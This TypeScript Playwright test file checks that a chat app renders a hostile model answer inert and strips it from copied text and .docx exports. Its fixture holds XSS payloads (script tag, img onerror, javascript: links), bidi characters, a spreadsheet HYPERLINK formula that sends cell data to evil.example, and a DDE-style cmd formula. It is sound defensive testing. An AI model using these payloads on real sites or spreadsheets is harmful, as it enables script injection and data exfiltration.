import type { ChildProcess } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import mammoth from 'mammoth';
import { chooseTopic, signInAsSubscriber } from './support/chat';
import { ownAppAddress, startOwnApp } from './support/own-app';

// A model answer is untrusted text: markup and javascript: links in it must reach the page inert.
// This file runs its own server, pointed at a fake OpenAI-compatible model on loopback. No line of
// the answer is supported by a source, so the ground stage leaves it as the model wrote it (ADR 030)
// and the page gets all of it.

const HOSTILE_ANSWER = [
  'Ja, ring sökanden en tisdag och fråga efter hennes favoritfärg (3 § lag (2018:222) om bostadsanpassningsbidrag).',
  '<script>window.__modelXss = "script"; alert("script")</script>',
  '<img src="x" onerror="window.__modelXss = \'img\'; alert(\'img\')">',
  "[Klicka här för mer](javascript:window.__modelXss='markdown';alert('markdown'))",
  "<a href=\"javascript:window.__modelXss='anchor';alert('anchor')\">Öppna länken</a>",
  // Bidi and zero-width characters, and lines a spreadsheet would run as formulas.
  'Beslutet \u202Eäger\u202C rum i \u2067kommunen\u2069 inom\u200B fyra\u200D veckor\uFEFF.',
  '=HYPERLINK("https://evil.example/?"&A1,"Klicka")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
].join('\n\n');

/** Streams `HOSTILE_ANSWER` as an OpenAI chat completion, word by word. */
const startFakeModel = async (): Promise<Server> => {
  const server = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      const chunk = (delta: object, finish: string | null) =>
        `data: ${JSON.stringify({
          id: 'chatcmpl-e2e',
          object: 'chat.completion.chunk',
          created: 0,
          model: 'fake-model',
          choices: [{ index: 0, delta, finish_reason: finish }],
        })}\n\n`;
      for (const word of HOSTILE_ANSWER.split(/(?<= )/)) {
        res.write(chunk({ content: word }, null));
      }
      res.write(chunk({}, 'stop'));
      res.end('data: [DONE]\n\n');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
};

const address = ownAppAddress(50);
const { baseURL } = address;
let model: Server;
let app: ChildProcess;

test.describe.configure({ mode: 'serial' });
test.use({ baseURL });

test.beforeAll(async () => {
  test.setTimeout(120_000);
  model = await startFakeModel();
  app = await startOwnApp(address, 'model', {
    LLM_BASE_URL: `http://127.0.0.1:${(model.address() as AddressInfo).port}/v1`,
    LLM_API_KEY: 'sk-e2e',
  });
});

test.afterAll(async () => {
  app?.kill();
  await new Promise((resolve) => model?.close(resolve));
});

/** Signs up a new subscriber, asks one question and gives the finished answer. */
const askHostileModel = async (page: Page, name: string) => {
  const tool = await signInAsSubscriber(page, name, baseURL);
  await chooseTopic(page, 'Övrigt');
  await tool.getByLabel('Din fråga').fill('Kan bidrag lämnas när bostaden hyrs i andra hand?');
  await tool.getByLabel('Din fråga').press('Enter');
  const answer = tool
    .getByRole('list', { name: 'Konversation' })
    .getByRole('article', { name: 'Svar' })
    .last();
  await expect(answer.getByRole('button', { name: 'Hjälpsamt', exact: true })).toBeVisible({
    timeout: 30_000,
  });
  return answer;
};

test('a model answer with <script>, event handlers and javascript: links is rendered inert', async ({
  page,
}) => {
  const dialogs: string[] = [];
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  const answer = await askHostileModel(page, 'hostile-model');
  await expect(answer).toContainText('3 § lag (2018:222)');
  await expect(answer).toContainText('Klicka här för mer');

  await expect(answer.locator('script, img, iframe, object, embed')).toHaveCount(0);
  await expect(answer.locator('[onerror], [onclick], [onload]')).toHaveCount(0);
  await expect(answer.locator('a[href^="javascript:" i]')).toHaveCount(0);
  await expect(page.locator('a[href^="javascript:" i]')).toHaveCount(0);

  await answer.getByText('Klicka här för mer').click();
  await answer.getByText('Öppna länken').click();
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (globalThis as { __modelXss?: string }).__modelXss)).toBeUndefined();
  expect(dialogs).toEqual([]);
});

test.describe('the case file of a hostile model answer', () => {
  test.use({ permissions: ['clipboard-read', 'clipboard-write'] });

  test('"Kopiera med källor" and the .docx carry what the screen shows, and no spreadsheet formula', async ({
    page,
  }) => {
    const answer = await askHostileModel(page, 'hostile-case-file');

    await answer.getByRole('button', { name: 'Kopiera med källor' }).click();
    await expect(page.getByText('Svaret är kopierat med källor', { exact: true })).toBeVisible();
    const copied: string = await page.evaluate('navigator.clipboard.readText()');
    const downloading = page.waitForEvent('download');
    await answer.getByRole('button', { name: 'Exportera (.docx)' }).click();
    const { value: docx } = await mammoth.extractRawText({ path: await (await downloading).path() });

    for (const [name, text] of [
      ['copied text', copied],
      ['.docx', docx],
    ] as const) {
      expect(text, name).toContain('Klicka här för mer');
      expect(text, name).toContain('Öppna länken');
      expect(text, name).toContain('Beslutet äger rum i kommunen inom fyra veckor.');
      expect(text, name).not.toMatch(/<script|<img|<a |onerror|javascript:|__modelXss/i);
      expect(text, name).not.toMatch(/[\u061C\u200B-\u200F\u202A-\u202E\u2060\u2066-\u2069\uFEFF]/);
      const lines = text.split('\n');
      expect(
        lines.filter((line) => /^[=+\-@\t]/.test(line)),
        name,
      ).toEqual([]);
      expect(lines, name).toContain('\'=HYPERLINK("https://evil.example/?"&A1,"Klicka")');
    }
  });
});
